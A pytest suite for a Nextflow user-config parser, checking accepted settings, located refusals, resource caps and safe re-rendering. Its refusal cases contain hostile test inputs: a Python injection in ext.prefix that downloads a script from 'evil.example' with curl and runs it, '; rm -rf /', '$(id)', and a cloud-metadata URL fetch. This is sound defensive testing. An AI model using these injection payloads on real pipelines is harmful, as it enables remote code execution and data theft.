"""The user-config parser: the accepted subset, a located refusal for everything else, and bounded work."""

from __future__ import annotations

import random
import re

import pytest

from services.pipelines.config_render import render_user_settings
from services.pipelines.user_config import (
    MAX_CONFIG_BYTES,
    MAX_PROBLEMS,
    ConfigParam,
    ResourceMaxima,
    Selector,
    Setting,
    UserConfig,
    parse_user_config,
)

MAXIMA = ResourceMaxima(cpus=16, memory="128 GB", time="24h", disk="1 TB")
LOCATED = re.compile(r"^line (\d+), column (\d+): (.+); (.+)$", re.DOTALL)


def ok(text: str) -> UserConfig:
    config, problems = parse_user_config(text, MAXIMA)
    assert problems == [], [p.description for p in problems]
    return config


def refused(text: str) -> list[str]:
    config, problems = parse_user_config(text, MAXIMA)
    assert problems, f"accepted: {text!r}"
    assert {p.field for p in problems} == {"user_config"}
    return [p.description for p in problems]


def values(settings: tuple[Setting, ...]) -> dict[str, int | str]:
    return {s.name: s.value for s in settings}


# ------------------------------------------------------------------------------------------ accepted


def test_the_documented_subset_is_accepted() -> None:
    config = ok(
        """
        // resources for everything
        process.cpus = 2
        process.memory = '4 GB'
        process.ext.args = '--verbose'
        process {
            time = 2.h; disk = 100.GB
            errorStrategy = 'retry'
            maxRetries = 2
            maxErrors = -1
            withName: 'STAR_ALIGN|STARSOLO' {
                cpus = 16
                memory = 128.GB
                time = '10h 30m'
                ext.args = '--outSAMtype BAM SortedByCoordinate --soloFeatures Gene Velocyto --x=a,b:c/d@e%f+g'
                ext.prefix = "s1_star.v2-x"
            }
            withLabel: process_high { cpus = 8 }
            "withName:FASTQC" {
                ext {
                    args = '--quiet'
                    args2 = '-k 1,2'; args3 = '--x=y'
                }
            }
            'withLabel: big' { memory = '64.GB' }
        }
        /* params, with a
           block comment */
        params {
            genome = 'GRCh38'
            expected_cells = 5000
            ratio = 0.5
            skip_fastqc = true
            fasta = null
            aligners = ['star', "kallisto", 3, -1.5, false, null]
        }
        params.protocol = '10XV3'
        """
    )
    assert values(config.process) == {
        "cpus": 2,
        "memory": "4 GB",
        "ext.args": "--verbose",
        "time": "2h",
        "disk": "100 GB",
        "errorStrategy": "retry",
        "maxRetries": 2,
        "maxErrors": -1,
    }
    assert [(s.kind, s.pattern) for s in config.selectors] == [
        ("withName", "STAR_ALIGN|STARSOLO"),
        ("withLabel", "process_high"),
        ("withName", "FASTQC"),
        ("withLabel", "big"),
    ]
    assert values(config.selectors[0].settings) == {
        "cpus": 16,
        "memory": "128 GB",
        "time": "10h 30m",
        "ext.args": "--outSAMtype BAM SortedByCoordinate --soloFeatures Gene Velocyto --x=a,b:c/d@e%f+g",
        "ext.prefix": "s1_star.v2-x",
    }
    assert values(config.selectors[2].settings) == {"ext.args": "--quiet", "ext.args2": "-k 1,2", "ext.args3": "--x=y"}
    params = {p.name: p.value for p in config.params}
    assert params == {
        "genome": "GRCh38",
        "expected_cells": 5000,
        "ratio": 0.5,
        "skip_fastqc": True,
        "fasta": None,
        "aligners": ["star", "kallisto", 3, -1.5, False, None],
        "protocol": "10XV3",
    }
    assert config.params_dict["protocol"] == ConfigParam("protocol", "10XV3", 37, 16)


def test_empty_and_comment_only_configs_set_nothing() -> None:
    for text in ("", "\n\n", "// nothing\n/* at\nall */\n", ";;\n;"):
        assert ok(text) == UserConfig()


def test_a_byte_order_mark_and_crlf_line_ends_are_fine() -> None:
    config = ok("\ufeffprocess.cpus = 2\r\nprocess {\r\n    withName: FOO { cpus = 3 }\r\n}\r\n")
    assert values(config.process) == {"cpus": 2} and config.selectors[0].line == 3
    assert refused("\ufeffprocess.executor = 'x'")[0].startswith("line 1, column 1: ")


def test_string_escapes_are_decoded_and_a_dollar_is_data() -> None:
    config = ok("params.a = 'it\\'s $HOME'\nparams.b = \"cost \\$5 \\u00e9\\t\"\nparams.c = 'back\\\\slash'")
    assert config.params_dict["a"].value == "it's $HOME"  # single quotes never interpolate in Groovy
    assert config.params_dict["b"].value == "cost $5 \u00e9\t"
    assert config.params_dict["c"].value == "back\\slash"


def test_memory_and_time_are_written_in_the_forms_nextflow_reads() -> None:
    # MemoryUnit(String) and Duration(String), nf-commons nextflow/util at v24.04: '8 GB', '2h' (lower-case units).
    config = ok("process { memory = 8.GB; time = '10H 30M'; disk = '2.5.gb' }")
    assert values(config.process) == {"memory": "8 GB", "time": "10h 30m", "disk": "2.5 GB"}
    assert refused("process.memory = '1.5 B'")[0].startswith("line 1, column 18: memory = '1.5 B'")


def test_the_caps_are_inclusive() -> None:
    config = ok("process { cpus = 16; memory = '128 GB'; time = 24.h; disk = 1.TB }")
    assert values(config.process) == {"cpus": 16, "memory": "128 GB", "time": "24h", "disk": "1 TB"}


# ------------------------------------------------------------------------------------------ refused


@pytest.mark.parametrize(
    ("text", "line", "column", "found"),
    [
        # Groovy code
        ("def t = new URL('http://metadata.google.internal/x').text", 1, 1, "Groovy code"),
        ("params.x = \"${System.getenv('X')}\"", 1, 13, "interpolation ${...}"),
        ('params.x = "hello $USER"', 1, 19, "interpolation $USER"),
        ("process.memory = { 8.GB * task.attempt }", 1, 18, "closure"),
        ("process {\n  errorStrategy = { task.exitStatus in [143] ? 'retry' : 'finish' }\n}", 2, 19, "closure"),
        ("includeConfig 'http://x'", 1, 1, "includeConfig"),
        ("System.exit(1)", 1, 8, "method call"),
        ("params.x = 'a'.execute()", 1, 15, "method call"),
        ("'curl x'.execute()", 1, 1, "quoted name"),
        ("import groovy.json.JsonSlurper", 1, 1, "Groovy code"),
        ("println 'x'", 1, 1, "Groovy code"),
        ("process.cpus = 4 * 2", 1, 18, "operator `*`"),
        ("process.cpus = task.attempt", 1, 16, "`task`"),
        ("process.cpus = params.max > 1 ? 4 : 2", 1, 16, "`params`"),
        ("process.cpus += 1", 1, 14, "operator `+=`"),
        ("process.cpus << 1", 1, 14, "`<<`"),
        ("params.x = '''a\nb'''", 1, 12, "triple-quoted"),
        ("params.x = /slashy/", 1, 12, "`/`"),
        ("params.x = [a: 1]", 1, 13, "map"),
        ("params.x = [[1]]", 1, 13, "nested list"),
        ("params.x = 8.GB", 1, 12, "Groovy value 8.GB"),
        ("params.x = 010", 1, 12, "`010`"),
        ("params.x = 1e999", 1, 12, "`1e999`"),
        ("params.a.b = 1", 1, 1, "`params.a.b =`"),
        ("params { a { b = 1 } }", 1, 10, "`a {`"),
        ("process.withName:FOO.cpus = 1", 1, 1, "`process.withName:`"),
        # settings the platform owns, and scopes that are not a run's to set
        ("process.executor = 'local'", 1, 1, "`process.executor` is set by the platform"),
        ("process { executor = 'local' }", 1, 11, "`executor` is set by the platform"),
        ("google.batch.serviceAccountEmail = 'x'", 1, 1, "Google Cloud settings"),
        ("google { project = 'other' }", 1, 1, "Google Cloud settings"),
        ("process { withName: '.*' { resourceLimits = [cpus: 999] } }", 1, 28, "`resourceLimits` is set"),
        ("process.resourceLabels = [:]", 1, 1, "`process.resourceLabels` is set"),
        ("process { publishDir = [path: 'gs://other/'] }", 1, 11, "`publishDir` is set"),
        ("process.containerOptions = '--privileged'", 1, 1, "`process.containerOptions` is set"),
        ("process.container = 'evil:latest'", 1, 1, "`process.container` is set"),
        ("process.queue = 'q'", 1, 1, "`process.queue` is set"),
        ("process.clusterOptions = '-x'", 1, 1, "`process.clusterOptions` is set"),
        ("process.machineType = 'n2-highmem-96'", 1, 1, "`process.machineType` is set"),
        ("process.accelerator = 4", 1, 1, "`process.accelerator` is set"),
        ("process.beforeScript = 'curl x'", 1, 1, "`process.beforeScript` is set"),
        ("process { afterScript = 'x' }", 1, 11, "`afterScript` is set"),
        ("process.scratch = false", 1, 1, "`process.scratch` is set"),
        ("process.stageInMode = 'copy'", 1, 1, "`process.stageInMode` is set"),
        ("process.shell = ['bash']", 1, 1, "`process.shell` is set"),
        ("process.tag = 'x'", 1, 1, "`process.tag` is not an allowed process setting"),
        ("process.ext.when = 'x'", 1, 13, "`process.ext.when`"),
        ("process { ext { when = 'x' } }", 1, 17, "`ext.when`"),
        ("workDir = 'gs://other-run/work'", 1, 1, "work directory"),
        ("env { AWS_SECRET = 'x' }", 1, 1, "environment variables"),
        ("env.PATH = '/tmp'", 1, 1, "environment variables"),
        ("executor { queueSize = 1000 }", 1, 1, "the executor is set by the platform"),
        ("executor.name = 'local'", 1, 1, "the executor is set by the platform"),
        ("plugins { id 'nf-evil' }", 1, 1, "plugins"),
        ("docker.enabled = true", 1, 1, "container runtime"),
        ("singularity { enabled = true }", 1, 1, "container runtime"),
        ("conda.enabled = true", 1, 1, "container runtime"),
        ("profiles { evil { process.executor = 'local' } }", 1, 1, "`profiles` is not a scope"),
        ("manifest.name = 'x'", 1, 1, "`manifest` is not a scope"),
        ("timeline.enabled = false", 1, 1, "run reports"),
        ("trace.file = '/tmp/x'", 1, 1, "run reports"),
        ("tower.accessToken = 'x'", 1, 1, "other platforms"),
        ("aws.region = 'x'", 1, 1, "other platforms"),
        ("cleanup = true", 1, 1, "`cleanup` is not a scope"),
        ("nextflow.enable.strict = true", 1, 1, "`nextflow` is not a scope"),
        # values outside the platform's limits or types
        ("process.cpus = 17", 1, 16, "above the platform's maximum"),
        ("process.memory = '129 GB'", 1, 18, "above the platform's maximum"),
        ("process.memory = 2.TB", 1, 18, "above the platform's maximum"),
        ("process.time = '25h'", 1, 16, "above the platform's maximum"),
        ("process.time = 2.d", 1, 16, "above the platform's maximum"),
        ("process.disk = '2 TB'", 1, 16, "above the platform's maximum"),
        ("process.cpus = 0", 1, 16, "cpus = 0"),
        ("process.cpus = 2.5", 1, 16, "cpus = 2.5"),
        ("process.cpus = '4'", 1, 16, "cpus = '4'"),
        ("process.memory = 'lots'", 1, 18, "memory = 'lots'"),
        ("process.memory = 0.GB", 1, 18, "memory = 0.GB"),
        ("process.time = 2.hours", 1, 16, "time = 2.hours"),
        ("process.maxRetries = 1000", 1, 22, "above the platform's maximum"),
        ("process.errorStrategy = 'explode'", 1, 25, "errorStrategy = 'explode'"),
        ("process.errorStrategy = retry", 1, 25, "`retry`"),
        ("process.ext.args = 1", 1, 20, "ext.args = 1"),
        # shell metacharacters and line breaks in ext values
        ("process.ext.args = '; rm -rf /'", 1, 20, "the character `;`"),
        ("process.ext.args = 'a && b'", 1, 20, "the character `&`"),
        ("process.ext.args = 'a | b'", 1, 20, "the character `|`"),
        ("process.ext.args = '> /etc/x'", 1, 20, "the character `>`"),
        ("process.ext.args = '< x'", 1, 20, "the character `<`"),
        ("process.ext.args = '`id`'", 1, 20, "the character ```"),
        ("process.ext.args = '$(id)'", 1, 20, "the character `$`"),
        ("process.ext.prefix = 'a\\\\b'", 1, 22, "the character `\\`"),
        ("process.ext.args = 'a\\nrm -rf /'", 1, 20, "a line break"),
        ("process.ext.args = 'a\\rb'", 1, 20, "a line break"),
        ('process.ext.args = "--title \'x"', 1, 20, "the character `'` (character 9 of the value)"),
        ("process.ext.args = '--title \"x'", 1, 20, 'the character `"` (character 9 of the value)'),
        ("process.memory = '\u0668 GB'", 1, 18, "memory = "),
        ("process { withName: X { ext.args = 'a\\u0000b' } }", 1, 36, "the character `\\u0000`"),
        ("process.ext.args = 'a\\tb'", 1, 20, "the character `\\u0009`"),
        # ext values in nf-core's Python templates ("--id", "${prefix}", / shlex.split("""${args}""")) and bash
        (
            "process {\n  withName: 'CELLRANGER_COUNT' {\n"
            '    ext.prefix = \'x", __import__("os").system("curl -so /tmp/p evil.example/p"),'
            ' __import__("os").system("sh /tmp/p"), "\'\n  }\n}',
            3,
            18,
            'ext.prefix contains the character `"` (character 2 of the value)',
        ),
        ('process.ext.args = \'""" + __import__("os").popen("id").read() + """\'', 1, 20, 'the character `"`'),
        ("process.ext.args = '--title \"x\"'", 1, 20, 'the character `"`'),  # balanced quotes re-quote in bash
        ("process.ext.args = \"--title 'x'\"", 1, 20, "the character `'`"),
        ("process.ext.args = '--x # the rest'", 1, 20, "the character `#`"),  # comments out the module's `\\`
        ("process.ext.args = '--reads *.fq'", 1, 20, "the character `*`"),
        ("process.ext.args = '--reads ?.fq'", 1, 20, "the character `?`"),
        ("process.ext.args = '--reads [ab].fq'", 1, 20, "the character `[`"),
        ("process.ext.args = '--reads {a,b}.fq'", 1, 20, "the character `{`"),
        ("process.ext.args2 = '--x (y)'", 1, 21, "the character `(`"),
        ("process.ext.args3 = '~/x'", 1, 21, "the character `~`"),
        ("process.ext.args = '!!'", 1, 20, "the character `!`"),
        ("process.ext.args = '--x ^y'", 1, 20, "the character `^`"),
        ("process.ext.args = '" + "a" * 4097 + "'", 1, 20, "ext.args of 4097 characters"),
        ("process.ext.prefix = '../other-run/x'", 1, 22, "ext.prefix contains `..`"),
        ("process.ext.prefix = 'a..b'", 1, 22, "ext.prefix contains `..`"),
        ("process.ext.prefix = 'a/b'", 1, 22, "ext.prefix contains the character `/`"),
        ("process.ext.prefix = '.hidden'", 1, 22, "ext.prefix starts with the character `.`"),
        ("process.ext.prefix = '-rf'", 1, 22, "ext.prefix starts with the character `-`"),
        ("process.ext.prefix = 'a b'", 1, 22, "ext.prefix contains the character ` `"),
        ("process.ext.prefix = ''", 1, 22, "ext.prefix is empty"),
        ("process.ext.prefix = 'a\\n'", 1, 22, "ext.prefix contains a line break"),
        ("process.ext.prefix = '" + "a" * 129 + "'", 1, 22, "ext.prefix of 129 characters"),
        # selectors
        ("process { withName: 'A' { withLabel: 'b' { cpus = 1 } } }", 1, 27, "selector inside a selector"),
        ("process { withName: 'a\\u0007b' { cpus = 1 } }", 1, 21, "control character"),
        ("process { withName: '' { cpus = 1 } }", 1, 21, "empty withName: pattern"),
        ("process { withName: 'x' * 2 { cpus = 1 } }", 1, 25, "`*`"),
        ("process { withName: 'x' cpus = 1 }", 1, 25, "`cpus`"),
        # patterns are Java regexes matched on the orchestrator: no groups, classes or nested quantifiers
        ("process { withName: '(.*)*X' { cpus = 1 } }", 1, 21, "contains the character `(`"),
        ("process { withName: '(A|B)' { cpus = 1 } }", 1, 21, "contains the character `(`"),
        ("process { withLabel: '[a-z]+' { cpus = 1 } }", 1, 22, "contains the character `[`"),
        ("process { withName: 'A+' { cpus = 1 } }", 1, 21, "contains the character `+`"),
        ("process { withName: 'A{1000}' { cpus = 1 } }", 1, 21, "contains the character `{`"),
        ("process { withName: 'A\\\\d' { cpus = 1 } }", 1, 21, "contains the character `\\`"),
        ("process { withName: 'A B' { cpus = 1 } }", 1, 21, "contains the character ` `"),
        ("process { withName: '.*.*.*.*X' { cpus = 1 } }", 1, 21, "more than 3 `*` in one alternative"),
        ("process { withName: '*A' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
        ("process { withName: 'A**' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
        ("process { withName: 'A|*' { cpus = 1 } }", 1, 21, "not a valid regular expression"),
        ("process { withName: 'A!B' { cpus = 1 } }", 1, 21, "`!` after its start"),
        ("process { withName: '!' { cpus = 1 } }", 1, 21, "only `!`"),
        ("process { 'withName:(.*)*X' { cpus = 1 } }", 1, 11, "contains the character `(`"),
        ("process { withName: '" + "A" * 257 + "' { cpus = 1 } }", 1, 21, "of 257 characters"),
        # unterminated things
        ("params.x = 'abc\nparams.y = 1", 1, 12, "never closed"),
        ('params.x = "abc', 1, 12, "never closed"),
        ("process {\n    cpus = 1\n", 1, 9, "never closed"),
        ("process { withName: 'A' {\n cpus = 1 }", 1, 9, "never closed"),  # the outer one
        ("/* never\nclosed", 1, 1, "never closed"),
        ("}", 1, 1, "closes nothing"),
        ("params.x = 'a\\qb'", 1, 14, "escape \\q"),
        ("params.x =", 1, 11, "the end of the config"),
        ("x", 1, 1, "`x` is not a scope"),
        ("process = [:]", 1, 1, "`process =`"),
    ],
)
def test_refused_with_line_column_and_what_is_allowed(text: str, line: int, column: int, found: str) -> None:
    first = refused(text)[0]
    m = LOCATED.match(first)
    assert m, first
    assert (int(m[1]), int(m[2])) == (line, column), first
    assert found in m[3], first
    assert m[4], first  # what is allowed


def test_every_problem_is_reported_in_order() -> None:
    text = (
        "process.cpus = 2\n"
        "process.executor = 'local'\n"
        "env { X = 'y' }\n"
        "process {\n"
        "    withName: FOO { cpus = 99; containerOptions = '--privileged'; memory = '1 GB' }\n"
        "}\n"
        "params.ok = 1\n"
        'params.bad = "${x}"\n'
    )
    problems = refused(text)
    located = [tuple(int(x) for x in LOCATED.match(p).groups()[:2]) for p in problems]  # type: ignore[union-attr]
    assert located == [(2, 1), (3, 1), (5, 28), (5, 32), (8, 15)]
    # What was fine is still parsed (the caller refuses the config as a whole).
    config, _ = parse_user_config(text, MAXIMA)
    assert values(config.process) == {"cpus": 2}
    assert values(config.selectors[0].settings) == {"memory": "1 GB"}
    assert [p.name for p in config.params] == ["ok"]


def test_problems_are_capped() -> None:
    problems = refused("process.executor = 'x'\n" * 500)
    assert len(problems) == MAX_PROBLEMS
    assert problems[-1].endswith("more problems follow; fix these first")


def test_the_messages_do_not_echo_unbounded_or_invisible_text() -> None:
    [problem] = refused("params.x = '" + "a" * 10_000 + "' + 1")
    assert len(problem) < 400
    [problem] = refused("process.\u202eexecutor = 'x'")  # a right-to-left override outside a string
    assert "U+202E" in problem or "\\u202e" in problem


# --------------------------------------------------------------------------------- bounded work


def test_an_oversized_config_is_refused_before_it_is_read() -> None:
    [problem] = refused("// " + "x" * MAX_CONFIG_BYTES)
    assert "bytes" in problem and str(MAX_CONFIG_BYTES) in problem


@pytest.mark.parametrize(
    "text",
    [
        "{" * 200_000,
        "process {" * 20_000,
        "params.x = " + "[" * 200_000,
        "process { withName: A { " * 20_000,
        'params.x = "${' + "{" * 200_000,
        "(" * 200_000,
    ],
)
def test_deep_nesting_does_not_recurse(text: str) -> None:
    problems = refused(text)
    assert 1 <= len(problems) <= MAX_PROBLEMS


def test_random_input_is_refused_or_accepted_never_crashes() -> None:
    pieces = [
        "process", "params", "withName", ":", "'A'", '"B"', "{", "}", "[", "]", "=", "cpus", "memory", "ext",
        ".", "args", "4", "8.GB", "\n", ";", "//c\n", "/*", "*/", "${", "$", "'", '"', "(", ")", ",", "-", "*",
        "true", "null", "executor", "'''", "\\", "\x00", "é", " ",
    ]  # fmt: skip
    rng = random.Random(1234)
    for i in range(3000):
        if i % 2:
            text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 40)))
        else:  # any characters: Unicode digits and spaces, controls, surrogate-free BMP
            text = "".join(chr(rng.choice([rng.randint(32, 126), 10, rng.randint(0, 0x2FFF)])) for _ in range(60))
        config, problems = parse_user_config(text, MAXIMA)
        assert isinstance(config, UserConfig)
        assert all(LOCATED.match(p.description) for p in problems), (text, problems)
        if not problems:  # what is accepted renders to text that is accepted again
            assert parse_user_config("\n".join(render_user_settings(config)), MAXIMA)[1] == [], text


# ------------------------------------------------------------------------------- re-rendered form


def test_the_rendered_settings_parse_back_to_the_same_config() -> None:
    text = (
        "process { cpus = 2; cpus = 3; ext.args = 'a b'\n"
        "  withName: 'FOO|BAR' { memory = 8.GB; ext { prefix = 'p' } }\n"
        "  'withLabel:x' { time = '2h'; errorStrategy = 'ignore' } }\n"
    )
    config = ok(text)
    rendered = "\n".join(render_user_settings(config))
    again = ok(rendered)
    assert values(again.process) == {"cpus": 3, "ext.args": "a b"}  # the last of a name wins
    assert [(s.kind, s.pattern, values(s.settings)) for s in again.selectors] == [
        (s.kind, s.pattern, values(s.settings)) for s in config.selectors
    ]


def test_a_pattern_renders_as_a_safe_single_quoted_literal() -> None:
    # The parser refuses quotes, backslashes and `$` in a pattern; the renderer escapes them all the same.
    assert refused('process { withName: "a\'b\\\\c\\$" { cpus = 1 } }')
    config = UserConfig(selectors=(Selector("withName", "a'b\\c$", (Setting("cpus", 1, 1, 1),), 1, 1),))
    assert render_user_settings(config)[1] == "    withName: 'a\\'b\\\\c\\$' {"


@pytest.mark.parametrize(
    "pattern",
    ["STAR_ALIGN", "!FASTQC", "MTX_TO_H5AD|CONCAT_H5AD", "GUNZIP*", ".*:STAR_ALIGN", "NFCORE_.*:.*:STAR.*", "A-B"],
)
def test_the_selector_patterns_nextflow_pipelines_use_are_accepted(pattern: str) -> None:
    config = ok(f"process {{\n withName: '{pattern}' {{ cpus = 1 }}\n withLabel: '{pattern}' {{ cpus = 2 }}\n}}")
    assert [(s.kind, s.pattern) for s in config.selectors] == [("withName", pattern), ("withLabel", pattern)]
